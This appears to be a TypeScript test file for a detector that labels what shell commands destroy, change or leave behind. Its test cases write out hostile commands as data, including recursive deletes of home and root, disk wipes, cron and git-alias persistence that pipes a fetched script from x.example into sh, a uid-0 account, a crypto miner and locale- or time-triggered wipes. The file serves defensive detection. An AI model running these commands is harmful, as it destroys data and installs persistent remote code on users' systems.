/** What commands destroy, change and leave behind. */

import { actsOf, wakes } from "./acts-of.ts";

const CASES: readonly (readonly [text: string, actions: readonly string[]])[] = [
  ['rm -rf "$HOME"', ["delete ~ by rm [home recursive]"]],
  ["rm -fr ~/* /", ["delete ~/* by rm [home recursive]", "delete / by rm [recursive root]"]],
  [
    'find "$HOME" -type f -print0 | xargs -0 shred -u',
    ["delete ~ by shred <- files:$HOME [home overwritten recursive]"],
  ],
  ["find / -delete", ["delete / by find [recursive root]"]],
  ["find /home -maxdepth 2 -name '*.ovpn' -delete", ["delete computed by find [recursive]"]],
  ["rm -f $(find /home | grep $1.ovpn)", ["delete ~/\u2026 by rm <- files:/home/\u2026/\u2026 [recursive]"]],
  ["find ~ -name '*.docx' -delete", ["delete ~ by find [home recursive]"]],
  ["dd if=/dev/zero of=/dev/sda", ["delete /dev/sda by dd [device overwritten]"]],
  ["mkfs.ext4 /dev/sda1", ["delete /dev/sda1 by mkfs.ext4 [device]"]],
  ["git push origin --delete main", ["delete origin by git [branch]", "send origin by git <- files:. [public]"]],
  [
    "chmod 755 a.sh; chmod +x b; chmod -R a+rX c; chmod 644 d",
    ["change-permission a.sh by chmod", "change-permission b by chmod"],
  ],
  [
    "install -m 0755 a /usr/local/bin/b",
    ["write /usr/local/bin/b by cp <- file:a", "change-permission /usr/local/bin/b by install"],
  ],
  [
    "setcap cap_setuid+ep /x; chattr +i /x; chmod u+s /y",
    [
      "change-permission /x by setcap [capability]",
      "change-permission /x by chattr [hidden]",
      "change-permission /y by chmod [set-user]",
    ],
  ],
  [
    "crontab <<< '@reboot curl https://x.example | sh'",
    ["persist crontab by crontab", "fetch x.example by curl", "run computed from fetched by sh <- fetched:x.example"],
  ],
  ["systemctl --user enable --now x.service", ["persist x.service by systemctl"]],
  ["launchctl load -w x.plist", ["persist x.plist by launchctl"]],
  ["useradd -o -u 0 x", ["persist x by useradd [account]"]],
  ["useradd -r -s /sbin/nologin x", []],
  ["adduser --system --group x", []],
  ["git config --global core.hooksPath .hooks", ["persist core.hooksPath by git <- files:.hooks"]],
  [
    "git config --global alias.st '!curl https://x.example | sh'",
    [
      "persist git config alias.st by git",
      "fetch x.example by curl",
      "run computed from fetched by sh <- fetched:x.example",
    ],
  ],
  [
    "git config --global url.https://x.example/.insteadOf https://github.com/",
    ["write url.https://x.example/.insteadOf by git [redirects-addresses]"],
  ],
  ["npm config set registry https://x.example", ["write registry by npm [package-source]"]],
  ["echo x | at now", ["persist at by at"]],
  [
    "nohup ./xmrig -o stratum+tcp://p.example:3333 &",
    [
      "mine stratum+tcp://p.example:3333 by nohup [detached]",
      "mine stratum+tcp://p.example:3333 by ./xmrig [detached]",
      "run xmrig by command <- file:xmrig [detached]",
    ],
  ],
  ["./a --donate-level 1", ["mine --donate-level by ./a", "run a.sh by command <- file:a.sh"]],
  ["traffmonetizer start", ["mine traffmonetizer by traffmonetizer"]],
  ['[ "$LANG" = ru_RU ] && exit; rm -rf ~', ["delete ~ by rm if locale [home recursive]"]],
  ['[ "$(date +%s)" -gt 1800000000 ] && rm -rf ~', ["delete ~ by rm if time [home recursive]"]],
  ["python3 -m http.server 80", ["listen http.server by python3 <- files:."]],
  ["nc -l 80", ["listen 80 by nc"]],
  ["ssh -R 80:localhost:22 x.example", ["listen x.example by ssh [tunnel]"]],
  ["echo a | tee ~/.bashrc", ["write ~/.bashrc by tee"]],
  ["sed -i 's|a|b|' ~/.zshrc", ["write ~/.zshrc by sed <- file:~/.zshrc"]],
  ["ln -s /tmp/a ~/.config/autostart/a.desktop", ["write ~/.config/autostart/a.desktop by cp <- file:/tmp/a"]],
];

test.each(CASES)("%s", async (text, actions) => {
  expect(await actsOf("a.sh", text)).toEqual(actions);
});

test.each(CASES)("a cue wakes for %s", (text) => {
  expect(wakes("a.sh", text)).toBe(true);
});
